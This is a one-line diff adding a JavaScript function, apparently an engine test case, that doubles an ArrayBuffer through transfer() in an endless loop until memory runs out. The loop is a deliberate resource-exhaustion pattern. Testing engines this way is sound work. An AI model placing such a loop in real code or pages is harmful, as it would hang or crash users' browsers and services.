@@ -1,0 +1,1 @@
+async function onTrack() { let b = new ArrayBuffer(1); for (;;) b = b.transfer(b.byteLength * 2); }
